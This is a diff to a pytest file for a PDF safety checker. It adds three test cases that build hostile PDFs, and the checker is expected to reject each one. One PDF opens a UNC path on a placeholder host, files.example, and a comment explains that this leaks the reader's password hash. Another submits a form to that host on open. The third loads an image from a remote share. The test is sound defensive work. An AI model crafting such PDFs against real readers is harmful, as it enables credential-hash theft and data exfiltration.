@@ -132,8 +132,34 @@ def _annotates_film(document):
     document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
 
 
+def _opens_another_host(document):
+    """As who reads it signs in to that host by himself, his password's hash goes there."""
+    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\files.example\\a.pdf"), D=Array([0, Name.Fit]))
+
+
+def _sends_a_form(document):
+    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://files.example/"))
+
+
+def _draws_what_lies_elsewhere(document):
+    picture = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
+    picture.F = String("\\\\files.example\\a.png")
+    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))
+
+
 @pytest.mark.parametrize(
-    "change", [_opens_script, _names_script, _launches, _attaches, _has_form_program, _annotates_film]
+    "change",
+    [
+        _opens_script,
+        _names_script,
+        _launches,
+        _attaches,
+        _has_form_program,
+        _annotates_film,
+        _opens_another_host,
+        _sends_a_form,
+        _draws_what_lies_elsewhere,
+    ],
 )
 def test_pdf_that_acts_or_carries_files_is_refused(change):
     assert wrong(pdf(change)) == "file_acts"
